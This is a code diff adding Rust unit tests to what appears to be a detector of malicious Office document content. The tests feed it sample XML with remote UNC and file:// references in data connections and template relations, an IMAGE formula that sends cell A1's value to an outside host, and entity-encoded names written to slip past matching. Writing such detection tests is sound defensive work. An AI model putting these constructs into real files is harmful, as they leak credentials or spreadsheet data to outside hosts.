@@ -27,6 +27,32 @@ fn relation(kind: &str, target: &str) -> Option<Severity> {
 }
 
 #[test]
+fn queries_of_another_machine_are_seen() {
+    for (text, wanted) in [
+        (
+            "<c><textPr sourceFile='\\\\a.invalid\\s.txt'/></c>",
+            Some(Severity::Malicious),
+        ),
+        (
+            "<c><webPr url='file:////a.invalid/s'/></c>",
+            Some(Severity::Malicious),
+        ),
+        (
+            "<c><dbPr connection='Provider=x;Data Source=\\\\a.invalid\\s.mdb;'/></c>",
+            Some(Severity::Malicious),
+        ),
+        (
+            "<c><f>_xlfn.IMAGE(\"http://a.invalid/\"&amp;A1)</f></c>",
+            Some(Severity::Suspicious),
+        ),
+        ("<c><textPr sourceFile='C:\\a.txt'/></c>", None),
+        ("<c><dbPr connection='Data Source=a.mdb'/></c>", None),
+    ] {
+        assert_eq!(worst("xl/connections.xml", text), wanted, "{text}");
+    }
+}
+
+#[test]
 fn relations_are_judged_by_kind_and_target() {
     for (kind, target, wanted) in [
         ("hyperlink", "https://a.invalid/", None),
@@ -43,6 +69,12 @@ fn relations_are_judged_by_kind_and_target() {
             "\\\\a.invalid\\t.dotm",
             Some(Severity::Malicious),
         ),
+        (
+            "attached&#84;emplate",
+            "file:////a.invalid/t.dotm",
+            Some(Severity::Malicious),
+        ),
+        ("hyperlink", "file:///C:/a.docx", None),
         (
             "oleObject",
             "&#104;ttps://a.invalid/t",
